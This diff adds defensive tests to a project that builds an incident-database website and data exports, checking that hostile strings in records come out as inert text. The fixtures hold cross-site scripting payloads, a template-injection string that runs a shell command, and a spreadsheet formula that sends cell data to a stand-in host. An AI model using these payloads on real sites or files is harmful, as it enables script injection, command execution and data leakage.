@@ -594,3 +594,222 @@ def test_an_annotation_never_spans_lines() -> None:
         "::error file=data/a%3Ab%2Cc.yaml,line=3,col=7::"
         "[rec] title: bad%0D%0A::error::forged 100%25 (fix,it)"
     )
+
+
+# --- defence in depth: hostile strings that bypass the validator are published inert ------------
+
+H_TITLE = "</title><script>alert(1)</script>"
+H_ENDRAW = "{% endraw %}{{ 7*7 }}"
+H_IMG = "<img src=x onerror=alert(1)>"
+H_JSLINK = "[x](javascript:alert(1))"
+H_ATTR = '{: onclick="alert(1)" }'
+H_PROSE = (
+    f"{CANARY_CODE} {H_ENDRAW} {H_IMG} {H_JSLINK} [y](//evil.example) [z](data:text/html,x)"
+    f"\n\n{H_ATTR}"
+)
+H_FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+INCIDENT_ID = "2020-02-16-baghdad"
+
+
+def hostile_database() -> object:
+    """The base database with hostile strings in every text kind, as if validation let them by."""
+    from dataclasses import replace
+
+    from incidentdb.model import Alias
+
+    db = load_bytes(BASE.encode(), NAME)
+    incident = db.incidents[INCIDENT_ID]
+    incident = replace(
+        incident,
+        title=H_TITLE,
+        summary=H_PROSE,
+        when=(replace(incident.when[0], quote=H_ENDRAW),),
+        responsibility=(replace(incident.responsibility[0], by=H_FORMULA),),
+    )
+    faction = replace(
+        db.factions["nujaba"],
+        name=H_ENDRAW,
+        description=H_PROSE,
+        aliases=(Alias(H_IMG, "en", H_ATTR),),
+    )
+    place = replace(db.places["baghdad"], name=H_IMG, description=H_PROSE, stationed=H_JSLINK)
+    source = replace(
+        db.sources["afp-2020-02-16"],
+        publisher=CANARY_CODE,
+        title=H_TITLE,
+        url="javascript:alert(1)",
+        archive_url="//evil.example/x",
+        note=H_PROSE,
+    )
+    return replace(
+        db,
+        incidents={INCIDENT_ID: incident},
+        factions={"nujaba": faction},
+        places={"baghdad": place},
+        sources={**db.sources, "afp-2020-02-16": source},
+    )
+
+
+MKDOCS_YML = """\
+site_name: Hostile test
+site_url: https://example.org/site/
+theme:
+  name: material
+  custom_dir: {overrides}
+  font: false
+plugins:
+  - search
+  - macros:
+      render_by_default: false
+      on_error_fail: true
+      on_undefined: strict
+markdown_extensions:
+  - toc:
+      permalink: true
+  - admonition
+  - tables
+  - attr_list
+  - md_in_html
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A real MkDocs build of the hostile database's pages (material, macros, search; no hook)."""
+    from incidentdb.pages import write_pages
+
+    project = tmp_path_factory.mktemp("hostile")
+    docs = project / "docs"
+    write_pages(hostile_database(), docs)
+    (docs / "index.md").write_text("# Home\n", encoding="utf-8")
+    (project / "mkdocs.yml").write_text(
+        MKDOCS_YML.format(overrides=ROOT / "overrides"), encoding="utf-8"
+    )
+    result = subprocess.run(
+        [sys.executable, "-m", "mkdocs", "build", "--site-dir", str(project / "site")],
+        cwd=project,
+        env={"PATH": "/usr/bin:/bin", "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": "0"},
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+    assert not (project / "CANARY").exists()
+    assert not (ROOT / "CANARY").exists()
+    return project / "site"
+
+
+def _html_pages(site: Path) -> list[tuple[str, object]]:
+    from bs4 import BeautifulSoup
+
+    return [
+        (
+            str(path.relative_to(site)),
+            BeautifulSoup(path.read_text(encoding="utf-8"), "html.parser"),
+        )
+        for path in sorted(site.rglob("*.html"))
+    ]
+
+
+def test_no_script_handler_or_script_link_from_data_in_any_page(hostile_site: Path) -> None:
+    found = []
+    for name, soup in _html_pages(hostile_site):
+        for script in soup.find_all("script"):
+            if "alert" in str(script):
+                found.append((name, str(script)))
+        for element in soup.find_all(True):
+            found += [(name, f"{element.name} {a}") for a in element.attrs if a.startswith("on")]
+            for attr in ("href", "src", "action", "formaction"):
+                target = str(element.get(attr, "")).strip().lower()
+                if target.startswith(("javascript:", "data:", "//", "vbscript:")):
+                    found.append((name, f"{element.name} {attr}={target}"))
+    assert found == []
+
+
+@pytest.mark.parametrize(
+    ("url", "literal"),
+    [
+        (f"incidents/{INCIDENT_ID}/", H_TITLE),
+        ("factions/nujaba/", H_ENDRAW),
+        ("places/baghdad/", H_IMG),
+    ],
+)
+def test_titles_are_literal_text(hostile_site: Path, url: str, literal: str) -> None:
+    from bs4 import BeautifulSoup
+
+    soup = BeautifulSoup(
+        (hostile_site / url / "index.html").read_text(encoding="utf-8"), "html.parser"
+    )
+    assert soup.title.get_text() == f"{literal} - Hostile test"
+    assert soup.find("h1").get_text() == literal
+
+
+def test_template_syntax_is_printed_not_evaluated(hostile_site: Path) -> None:
+    from bs4 import BeautifulSoup
+
+    page = hostile_site / "factions" / "nujaba" / "index.html"
+    text = BeautifulSoup(page.read_text(encoding="utf-8"), "html.parser").get_text()
+    assert H_ENDRAW in text
+    # Markdown reads __init__ as emphasis in prose; the braces and the call stay literal text
+    assert "{{ cycler." in text
+    assert "popen('touch CANARY').read() }}" in text
+    assert "49" not in text
+
+
+def test_search_index_holds_escaped_text_not_markup(hostile_site: Path) -> None:
+    import html
+    import json
+
+    index = json.loads((hostile_site / "search" / "search_index.json").read_text(encoding="utf-8"))
+    docs = {d["location"]: d for d in index["docs"]}
+    assert docs[f"incidents/{INCIDENT_ID}/"]["title"] == html.escape(H_TITLE, quote=False)
+    assert docs["places/baghdad/"]["title"] == html.escape(H_IMG, quote=False)
+    for doc in index["docs"]:
+        for value in (doc["title"], doc["text"]):
+            assert (
+                "<script" not in value
+                and "<img" not in value
+                and "onclick=" not in value.replace('onclick="alert(1)" }', "")
+            ), doc["location"]
+
+
+def test_exports_hold_the_literal_text_safely() -> None:
+    import csv
+    import io
+    import json
+
+    from lxml import etree
+
+    from incidentdb.export import exports
+    from incidentdb.index import build_index
+    from incidentdb.render import Renderer, SiteInfo
+    from incidentdb.site import Site
+
+    db = hostile_database()
+    index = build_index(db)
+    info = SiteInfo(site_url="https://example.org/site/", site_name="Hostile test")
+    site = Site(db, index, info, list(Renderer(db, index, info).pages()))
+    files = dict(exports(site))
+    assert files, "exports() yields at least one file"
+    for path, content in files.items():
+        text = content.decode("utf-8") if isinstance(content, bytes) else content
+        if path.endswith((".json", ".geojson")):
+            json.loads(text)  # well-formed whatever the data holds
+        elif path.endswith((".xml", ".atom", ".rss")):
+            tree = etree.fromstring(text.encode("utf-8"))
+            assert tree.xpath("//*[local-name()='script']") == [], path
+        elif path.endswith(".csv"):
+            for row in csv.reader(io.StringIO(text)):
+                for cell in row:
+                    assert not cell.startswith(("=", "+", "@", "\t", "\r")), (path, cell)
+                    if cell.startswith("-"):
+                        float(cell)  # only a negative number may start with '-'
+        if H_TITLE in text or html_escaped(H_TITLE) in text:
+            assert path.endswith((".json", ".geojson", ".csv", ".xml", ".atom", ".rss")), path
+
+
+def html_escaped(text: str) -> str:
+    import html
+
+    return html.escape(text, quote=False)
